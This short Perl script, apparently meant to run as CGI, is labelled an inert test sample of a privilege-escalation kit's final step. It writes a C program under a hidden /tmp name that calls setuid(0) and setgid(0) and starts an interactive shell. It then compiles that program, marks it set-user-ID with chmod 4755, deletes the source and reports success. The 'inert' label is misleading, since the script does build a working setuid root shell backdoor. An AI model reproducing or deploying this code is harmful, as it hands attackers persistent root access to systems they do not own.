#!/usr/bin/perl
# test sample (inert: writes under a scratch name and never runs the result as root): the
# privilege-escalation kit's last step, a C source that becomes root and starts a shell,
# compiled and marked set-user-ID
my $src = "/tmp/.x$$.c";
my $bin = "/tmp/.x$$";
open(my $fh, '>', $src) or die "cannot write: $!";
print $fh "#include <unistd.h>\nint main(void){\n";
print $fh "  setuid(0); setgid(0);\n  execl(\"/bin/sh\", \"sh\", \"-i\", (char*)0);\n  return 1;\n}\n";
close $fh;
system("cc -o $bin $src 2>/dev/null");
system("chmod 4755 $bin");
unlink $src;
print "Content-Type: text/plain\n\n", (-u $bin ? "ready: $bin\n" : "failed\n");
